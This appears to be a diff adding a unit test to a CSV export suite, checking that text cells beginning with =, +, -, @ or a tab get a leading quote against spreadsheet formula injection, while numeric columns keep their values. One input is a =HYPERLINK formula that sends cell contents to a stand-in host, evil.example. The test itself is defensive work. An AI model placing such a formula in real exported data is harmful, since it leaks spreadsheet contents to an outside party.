@@ -134,6 +134,33 @@ it('CSV: RFC 4180 quoting, NULL as empty and an empty string as a quoted empty f
   ).toBe('a,"b,c"\r\n"x ""y""","{""k"":[1]}"\r\n,"line\nbreak"\r\n"",\r\n');
 });
 
+it('CSV: text that a spreadsheet would run as a formula gets a leading quote; numbers and dates do not', () => {
+  const columns = [
+    { name: 'title', type: 'varchar' },
+    { name: 'n', type: 'bigint' },
+    { name: 'amount', type: 'decimal(10,2)' },
+    { name: 'big', type: 'decimal(38,2)' },
+  ];
+  const rows = [
+    ['=HYPERLINK("https://evil.example/?d="&A2,"Open")', -5, -12.5, '-12345678901234567890.25'],
+    ['+1 555 0100', 1, 1, '1.00'],
+    ['-', 2, 2, '2.00'],
+    ['@SUM(A1)', 3, 3, '3.00'],
+    ['\tx', 4, 4, '4.00'],
+    ['plain = text', 5, 5, '5.00'],
+  ];
+  expect(toCsv(columns, rows).split('\r\n')).toEqual([
+    'title,n,amount,big',
+    '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")",-5,-12.50,-12345678901234567890.25',
+    "'+1 555 0100,1,1.00,1.00",
+    "'-,2,2.00,2.00",
+    "'@SUM(A1),3,3.00,3.00",
+    "'\tx,4,4.00,4.00",
+    'plain = text,5,5.00,5.00',
+    '',
+  ]);
+});
+
 it('a decimal shows and downloads with its scale, as Athena writes it; other numbers as they are', () => {
   const columns = [
     { name: 'amount', type: 'decimal(10,2)' },
